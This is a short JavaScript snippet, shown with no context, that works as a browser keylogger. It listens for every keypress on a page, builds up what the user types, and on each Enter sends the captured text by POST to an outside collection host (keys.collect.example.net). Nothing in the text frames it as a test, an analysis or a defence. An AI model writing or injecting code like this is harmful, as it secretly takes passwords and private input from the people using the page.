let typed = "";
document.addEventListener("keydown", function (e) {
  if (e.key === "Enter") {
    fetch("https://keys.collect.example.net/t", { method: "POST", body: typed });
    typed = "";
  }
  typed += e.key;
});
